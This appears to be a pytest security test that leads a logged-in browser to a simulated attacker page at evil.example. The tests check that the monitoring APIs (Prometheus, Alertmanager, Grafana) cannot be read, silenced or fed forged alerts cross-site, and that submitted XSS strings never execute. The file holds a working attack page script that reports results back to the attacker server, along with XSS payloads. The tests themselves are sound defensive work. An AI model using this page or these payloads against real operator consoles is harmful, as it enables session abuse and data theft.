"""A real browser of somebody with the operators' login, led to a page of an attacker's."""

import http.server
import json
import threading
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from datetime import UTC, datetime
from pathlib import Path
from urllib.parse import unquote

import httpx
import pytest

from tests.attacks import share
from tests.attacks.inputs.pages import DOCUMENTS, MARK, PAGES
from tests.attacks.sending import Attackers
from tests.stack import Stack, eventually
from tests.support.browsing import browser
from tests.support.waiting import awaited

PORTS = ("PROMETHEUS_PORT", "ALERTMANAGER_PORT", "GRAFANA_PORT")
RUN = """<!doctype html><title>kittens</title><body><iframe name=sink></iframe><script>
const pause = (ms) => new Promise((done) => setTimeout(done, ms));
const said = (name, got) => '/told?' + encodeURIComponent(JSON.stringify([name, String(got)]));
const tell = (name, got) =>
  fetch(said(name, got), {method: 'POST'}).catch(() => pause(100).then(() => tell(name, got)));
const tried = [%s];
(async () => {
  for (const login of %s) { window.open(login); }
  await pause(2000);
  for (const [name, run] of tried) {
    let got = '';
    try { got = await Promise.race([run(), pause(5000).then(() => '')]); } catch (_) {}
    await tell(name, got ?? '');
  }
  await tell('over', '');
})();
</script>"""
pytestmark = pytest.mark.timeout(1200)


class Page(http.server.ThreadingHTTPServer):
    """The attacker's own server: one page, and what it tells."""

    def __init__(self, text: str) -> None:
        super().__init__(("127.0.0.1", 0), Handler)
        self.text = text
        self.told: dict[str, str] = {}


class Handler(http.server.BaseHTTPRequestHandler):
    """Serves it."""

    server: Page

    def do_GET(self) -> None:
        self.answer(200, self.server.text.encode())

    def do_POST(self) -> None:
        name, got = json.loads(unquote(self.path.partition("?")[2]))
        self.server.told[name] = got
        self.answer(204, b"")

    def answer(self, status: int, content: bytes) -> None:
        self.send_response(status)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(content)))
        self.end_headers()
        self.wfile.write(content)

    def log_message(self, *_: object) -> None:
        """Say nothing."""


@contextmanager
def page(text: str) -> Iterator[Page]:
    """Serve a page for a `with` block."""
    with Page(text) as server:
        thread = threading.Thread(target=server.serve_forever, daemon=True)
        thread.start()
        yield server
        server.shutdown()


def lead(server: Page, profile: Path, host: str = "127.0.0.1") -> None:
    """Lead a browser to the page until it has told that it is over.

    Chromium gives up what is under way when the machine's networks change, as other tests' containers make them.
    """
    for attempt in range(4):
        url = f"http://{host}:{server.server_address[1]}/"
        with browser(profile / str(attempt), url, "--host-resolver-rules=MAP evil.example 127.0.0.1"):
            with suppress(AssertionError):
                eventually(lambda: "over" in server.told, deadline=120)
            if "over" in server.told:
                return
    raise AssertionError(f"it told no more than {server.told}")


def scripted(stack: Stack, host: str) -> str:
    """Return the page that tries everything against the door as `host` leads to it, with the login in the browser."""
    ports = json.dumps({name: stack.settings[name] for name in PORTS})
    door = f"const ports = {ports}; const door = (name, path) => `http://{host}:${{ports[name]}}${{path}}`;"
    tried = ",".join(f"[{json.dumps(name)}, async () => {{ {door} {script} }}]" for name, script in PAGES.items())
    logins = [stack.operators_url(name).replace("//", f"//{stack.operator}@") + "/" for name in PORTS[:2]]
    return RUN % (tried, json.dumps(logins))


PLACES = {
    "evil.example, asking its own name, which leads here by now": ("evil.example", "evil.example"),
    "evil.example, asking 127.0.0.1": ("evil.example", "127.0.0.1"),
    "evil.example, asking localhost": ("evil.example", "localhost"),
    "another port of 127.0.0.1": ("127.0.0.1", "127.0.0.1"),
}
"""Where a page is, and by which name it asks."""


@pytest.mark.parametrize("place", share(list(PLACES), len(PLACES)))
def test_no_page_reads_or_changes_anything(stack: Stack, tmp_path: Path, place: str) -> None:
    own, door = PLACES[place]
    alertmanager = stack.alertmanager_url

    def silences() -> set[str]:
        return {one["id"] for one in httpx.get(f"{alertmanager}/api/v2/silences").json()}

    before = silences()  # those of an operator's, over by now
    started = awaited(lambda: stack.value("prometheus_config_last_reload_success_timestamp_seconds"))
    with page(scripted(stack, door)) as server:
        lead(server, tmp_path, own)
    assert {name: got for name, got in server.told.items() if got} == {}
    assert set(PAGES) < set(server.told)
    assert silences() == before
    names = {alert["labels"]["alertname"] for alert in httpx.get(f"{alertmanager}/api/v2/alerts").json()}
    assert "Forged" not in names
    assert stack.value("prometheus_config_last_reload_success_timestamp_seconds") == started


def test_the_browser_had_the_login(stack: Stack, tmp_path: Path) -> None:
    """What is refused above is refused to somebody who may."""
    with page("") as server:
        server.text = RUN % ("", json.dumps([f"{stack.alertmanager_url}/api/v2/status/kept"]))
        since = f"{datetime.now(UTC).timestamp():.3f}"
        with browser(tmp_path / "profile", f"http://127.0.0.1:{server.server_address[1]}/"):
            eventually(
                lambda: '"user":"operator"' in stack.compose("logs", "--since", since, "operators").stdout,
                lambda: stack.logs("operators"),
            )


def test_no_result_runs_in_the_browser(stack: Stack, attackers: Attackers, tmp_path: Path) -> None:
    """A page leads there by frames, windows and forms; what is shown would run as the API's own origin."""
    origin = stack.https_url
    results = []
    for name, (kind, text) in DOCUMENTS.items():
        with attackers.client() as client:  # of an address of its own: asking again counts against the limit
            made = client.post("/api/v1/jobs", content=text, headers={"Content-Type": kind})
            if made.status_code != 202:
                assert (name, made.status_code) == (name, 415)
                continue
            where = made.headers["location"]
            eventually(lambda client=client, where=where: client.get(where).json().get("status") == "succeeded")  # type: ignore[misc]
            results.append(f"{where}/result")
    assert len(results) >= 6
    frames = "".join(f'<iframe src="{origin}{path}"></iframe><embed src="{origin}{path}">' for path in results)
    opened = ";".join(f"window.open('{origin}{path}')" for path in results)
    forms = "".join(
        f'<form method=post enctype=text/plain target=_blank action="{origin}/api/v1/{route}"><textarea name="{text}">'
        "</textarea></form>"
        for route in ("process", "predict", "jobs")
        for text in (f"<script>fetch('{MARK}')</script>", "<!doctype html><img src=x onerror=fetch('/it-ran')>")
    )
    run = "onload=\"%s;for (const form of document.forms) form.submit();setTimeout(() => fetch('/told?' + "
    run += "encodeURIComponent(JSON.stringify(['over', ''])), {method: 'POST'}), 6000)\""
    since = f"{datetime.now(UTC).timestamp():.3f}"
    with page(f"<!doctype html><body {run % opened}>{frames}{forms}") as server:
        lead(server, tmp_path)
    seen = stack.compose("logs", "--no-color", "--since", since, "nginx").stdout
    assert f"{results[0]}" in seen
    assert MARK not in seen
